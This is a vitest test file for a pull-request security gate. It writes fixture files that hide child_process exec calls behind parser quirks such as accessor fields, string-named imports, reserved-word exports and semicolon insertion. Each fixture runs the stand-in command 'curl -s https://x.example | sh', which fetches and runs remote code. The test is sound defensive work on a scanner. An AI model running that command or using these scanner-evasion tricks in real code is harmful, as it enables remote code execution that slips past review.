import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// Syntax Node and tsc accept but the parser misread passed the gate before: a call held by a `static accessor` field,
// a name imported as a string (ES2022), a reserved word as an exported name (the grammar read the clause without it), a semicolon Node inserts that the
// grammar does not (the file does not parse: an error), `await` bound as a name in a script (read as the keyword).

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("syntax the parser misread does not open the gate", () => {
  it("scan/shell-command, scan/parse-error: a static accessor, string names across files, a reserved word as a name, `from` on the line after `export { … }`, `await` bound as a name and called, and a file that does not parse fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/accessor.ts"), `import * as cp from "child_process";\nclass C { static accessor run = cp.exec; }\nC.run("${CMD}");\n`);
      writeFileSync(join(dir, "agent/names.mjs"), `export { exec as "run" } from "child_process";\n`);
      writeFileSync(join(dir, "agent/quoted.mjs"), `import { "run" as r } from "./names.mjs";\nr("${CMD}");\n`);
      writeFileSync(join(dir, "agent/reserved.mjs"), `export { exec as if } from "child_process";\n`);
      writeFileSync(join(dir, "agent/keyword.mjs"), `import { if as run } from "./reserved.mjs";\nrun("${CMD}");\n`);
      writeFileSync(join(dir, "agent/split.mjs"), `export { execSync }\nfrom "child_process";\n`);
      writeFileSync(join(dir, "agent/split-use.mjs"), `import { execSync } from "./split.mjs";\nexecSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/await.js"), `const { execSync: await } = require("child_process");\nawait("${CMD}");\n`);
      writeFileSync(join(dir, "agent/asi.js"), `const cp = require("child_process");\nlet run\n[run] = [cp.exec]\nrun("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/parse-error agent/asi.js 2 5", "scan/shell-command agent/accessor.ts 3 1", "scan/shell-command agent/asi.js 4 1", "scan/shell-command agent/await.js 2 1", "scan/shell-command agent/keyword.mjs 2 1", "scan/shell-command agent/quoted.mjs 2 1", "scan/shell-command agent/split-use.mjs 2 1"]);
  });
});
